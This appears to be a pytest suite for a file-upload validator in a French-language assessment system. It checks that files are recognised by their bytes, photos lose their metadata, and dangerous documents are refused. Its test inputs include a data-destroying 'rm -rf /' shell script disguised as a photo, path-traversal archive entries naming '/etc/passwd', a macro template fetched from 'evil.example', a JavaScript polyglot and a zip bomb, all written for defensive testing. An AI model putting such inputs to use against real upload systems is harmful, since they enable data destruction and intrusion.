"""Files are judged by their bytes: honest ones come in, hostile ones meet words that say what to do."""

import io
import random
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from assessments.bank.families import Family
from assessments.handins import pictures
from assessments.handins.judging import FileRefused, JudgedFile, judge
from tests.factories.handins import (
    DOCX,
    GPS_PLACE,
    HTML,
    PDF,
    PPTX,
    SVG,
    XLSX,
    archive,
    office,
    opendocument,
    photo,
)

EVERYTHING = tuple(Family)
MP3_FRAME, M4A = b"\xff\xfb\x90\x64" + bytes(400), b"\x00\x00\x00\x20ftypM4A " + bytes(64)


def named(value: object) -> str:
    """What pytest calls a case: bytes by their number."""
    return f"{len(value)}-bytes" if isinstance(value, bytes) else str(value)


def drawing(pixels: bytes, side: int) -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), pixels).save(out, "PNG")
    return out.getvalue()


def judged(
    content: bytes, name: str = "fichier", *, families: tuple[str, ...] = EVERYTHING, size: int = 10
) -> JudgedFile:
    return judge(io.BytesIO(content), name=name, families=families, megabytes=size)


@pytest.mark.parametrize(
    ("content", "family", "suffix"),
    [
        (photo(), "picture", ".jpg"),
        (photo(kind="PNG"), "picture", ".jpg"),
        (photo(kind="WEBP"), "picture", ".jpg"),
        (PDF, "pdf", ".pdf"),
        (office(DOCX), "document", ".docx"),
        (office(XLSX), "document", ".xlsx"),
        (office(PPTX), "document", ".pptx"),
        (opendocument("text"), "document", ".odt"),
        (opendocument("spreadsheet"), "document", ".ods"),
        (opendocument("presentation"), "document", ".odp"),
        (b"ID3" + bytes(64), "sound", ".mp3"),
        (MP3_FRAME, "sound", ".mp3"),
        (b"OggS" + bytes(64), "sound", ".ogg"),
        (M4A, "sound", ".m4a"),
        (b"RIFF\x00\x00\x00\x00WAVEfmt " + bytes(32), "sound", ".wav"),
    ],
    ids=named,
)
@pytest.mark.parametrize("name", ["devoir.exe", "devoir.html", ""])
def test_a_file_is_what_its_bytes_say_whatever_its_name(content: bytes, family: str, suffix: str, name: str) -> None:
    found = judged(content, name)
    assert (found.family, found.suffix) == (family, suffix)


def test_a_plain_text_is_known_by_its_name_and_read_as_utf_8() -> None:
    assert judged("\ufeffÉté\r\n\tsous-titre".encode(), "note.TXT").suffix == ".txt"


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"", "vide.pdf", "vide"),
        (HTML, "cv.pdf", "Nous n’arrivons pas à lire"),
        (HTML, "page.txt", "texte simple"),
        (SVG, "dessin.svg", "Nous n’arrivons pas à lire"),
        (SVG, "dessin.txt", "texte simple"),
        (b"\xef\xbb\xbf \n<script>1</script>", "note.txt", "texte simple"),
        ("Été".encode("utf-16"), "note.txt", "texte simple"),
        ("Été".encode("latin-1"), "note.txt", "texte simple"),
        (b"a\x00b", "note.txt", "texte simple"),
        (b"MZ\x90\x00" + bytes(64), "cv.pdf.exe", "Nous n’arrivons pas à lire"),
        (b"\x7fELF" + bytes(64), "photo.jpg", "Nous n’arrivons pas à lire"),
        (b"#!/bin/sh\nrm -rf /", "photo.jpg", "Nous n’arrivons pas à lire"),
        (b"\n" + PDF, "cv.pdf", "Nous n’arrivons pas à lire"),
        (PDF[:40], "cv.pdf", "pas entier"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "vieux.doc", "PDF"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(32), "IMG_1.HEIC", "iPhone"),
        (archive({}), "vide.docx", "Nous n’arrivons pas à lire"),
        (b"GIF89a" + bytes(32), "anime.gif", "Nous n’arrivons pas à lire"),
    ],
    ids=named,
)
def test_what_is_none_of_these_is_refused_with_what_to_do(content: bytes, name: str, words: str) -> None:
    with pytest.raises(FileRefused, match=words):
        judged(content, name)


def test_a_file_of_another_family_is_told_what_is_asked_for() -> None:
    with pytest.raises(FileRefused, match="photo ou image.*PDF"):
        judged(photo(), "photo.pdf", families=("pdf",))


def test_a_file_too_heavy_is_refused_and_a_photo_is_weighed_once_made_smaller() -> None:
    with pytest.raises(FileRefused, match="2 Mo"):
        judged(PDF[:-7] + bytes(2 * 1024 * 1024) + PDF[-7:], families=("pdf",), size=2)
    with pytest.raises(FileRefused, match="10 Mo"):
        judged(PDF + bytes(10 * 1024 * 1024))
    heavy = drawing(random.Random(1).randbytes(1400 * 1400 * 3), 1400)
    assert len(heavy) > 5 * 1024 * 1024
    assert len(judged(heavy, size=5).content) < 5 * 1024 * 1024


def test_a_photo_forgets_where_and_by_what_it_was_taken() -> None:
    taken = photo(place=True)
    assert b"Fatima" in taken
    drawn = judged(taken).content
    assert b"Fatima" not in drawn
    with Image.open(io.BytesIO(drawn)) as picture:
        assert not picture.getexif()
        assert not picture.getexif().get_ifd(GPS_PLACE)


def test_a_photo_keeps_its_right_way_up_and_is_two_thousand_pixels_long_at_most() -> None:
    out, exif = io.BytesIO(), Image.Exif()
    exif[0x0112] = 6  # the telephone was held upright
    Image.new("RGB", (3000, 1500), "navy").save(out, "JPEG", exif=exif)
    with Image.open(io.BytesIO(judged(out.getvalue()).content)) as picture:
        assert (picture.width, picture.height) == (1000, 2000)


def test_what_follows_a_picture_in_its_file_is_gone() -> None:
    polyglot = photo() + archive({"evil.js": "alert(1)"}) + HTML
    kept = judged(polyglot).content
    assert b"PK" not in kept[-2000:]
    assert b"<script" not in kept


def test_a_transparent_drawing_lies_on_white() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 0, 0)).save(out, "PNG")
    with Image.open(io.BytesIO(judged(out.getvalue()).content)) as picture:
        assert picture.getpixel((10, 10)) == (255, 255, 255)


@pytest.mark.parametrize("content", [photo()[:200], photo(kind="PNG")[:60], b"\xff\xd8\xff" + bytes(100)], ids=named)
def test_a_damaged_picture_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="abîmée"):
        judged(content)


def test_a_picture_of_too_many_pixels_is_refused_before_it_is_drawn(monkeypatch: pytest.MonkeyPatch) -> None:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")
    monkeypatch.setattr(Image.Image, "load", lambda _: pytest.fail("it was drawn"))
    with pytest.raises(FileRefused, match="trop grande"):
        judged(out.getvalue())
    assert pictures.PIXELS < 9000 * 9000


@pytest.mark.parametrize(
    "content",
    [
        office(more={"word/vbaProject.bin": b"\xd0\xcf"}),
        office(DOCX.replace("document.main", "document.macroEnabled.main")),
        office("application/vnd.ms-word.document.macroEnabled.main+xml"),
        office(more={"xl/macrosheets/sheet1.xml": "<m/>"}),
        office(more={"word/activeX/activeX1.xml": "<a/>"}),
        opendocument(more={"Basic/Standard/Module1.xml": "<script/>"}),
        opendocument(more={"Scripts/python/run.py": "import os"}),
        office(
            more={
                "word/_rels/settings.xml.rels": '<Relationship Type="x/attachedTemplate" TargetMode="External"'
                ' Target="https://evil.example/t.dotm"/>'
            }
        ),
    ],
    ids=named,
)
def test_a_document_with_a_program_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="macros"):
        judged(content)


def test_a_document_made_from_a_template_of_its_own_computer_comes_in() -> None:
    rels = '<Relationship Type="x/attachedTemplate" TargetMode="External" Target="file:///C:\\modele.dotx"/>'
    assert judged(office(more={"word/_rels/settings.xml.rels": rels})).suffix == ".docx"


def test_a_document_under_a_password_says_so() -> None:
    locked = opendocument(more={"META-INF/manifest.xml": "<manifest:encryption-data/>"})
    with pytest.raises(FileRefused, match="mot de passe"):
        judged(locked)
    flagged = bytearray(archive({"[Content_Types].xml": "x"}))
    flagged[flagged.rfind(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(FileRefused, match="mot de passe"):
        judged(bytes(flagged))


def _bomb() -> bytes:
    return office(more={"word/media/zeros.bin": bytes(60 * 1024 * 1024)})


def _many() -> bytes:
    return office(more={f"word/{number}.xml": "" for number in range(2100)})


def _twice() -> bytes:
    """Two parts of one name: which one counts depends on who opens it."""
    return office(more={"twin.xml": "<p>Autre</p>"}).replace(b"twin.xml", b"main.xml")


def _lying() -> bytes:
    """The directory says that a part is shorter than it is."""
    made = bytearray(office())
    at = made.rfind(b"PK\x01\x02")
    struct.pack_into("<L", made, at + 24, 3)
    return bytes(made)


@pytest.mark.parametrize(
    "content",
    [
        _bomb(),
        _many(),
        _twice(),
        _lying(),
        archive({"readme.txt": "une archive"}),
        office(more={"../../evil.xml": "x"}),
        office(more={"/etc/passwd": "x"}),
        office(more={"C:\\evil.xml": "x"}),
        office()[:-30],
        office()[:200],
        b"PK\x03\x04" + bytes(300),
        archive({"mimetype": "application/java-archive", "META-INF/MANIFEST.MF": "Main-Class: E"}),
        archive({"mimetype": "application/epub+zip"}),
    ],
    ids=named,
)
def test_an_archive_that_no_office_program_writes_is_refused(content: bytes) -> None:
    with pytest.raises(FileRefused, match="lire ce document"):
        judged(content)


def test_an_archive_behind_something_else_is_not_a_document() -> None:
    with pytest.raises(FileRefused):
        judged(HTML + office(), "cv.docx")
    with pytest.raises(FileRefused):
        judged(b"PK\x03\x04" + HTML + office(), "cv.docx")


@settings(max_examples=60)
@given(
    st.sampled_from([photo(), photo(kind="PNG"), PDF, office(), opendocument(), M4A]), st.randoms(use_true_random=False)
)
def test_a_file_damaged_anyhow_is_kept_or_refused_and_breaks_nothing(content: bytes, chance: random.Random) -> None:
    damaged = bytearray(content)
    for _ in range(chance.randint(1, 12)):
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
    try:
        found = judged(bytes(damaged[: chance.randint(1, len(damaged))]), "devoir.txt")
    except FileRefused:
        return
    assert found.content
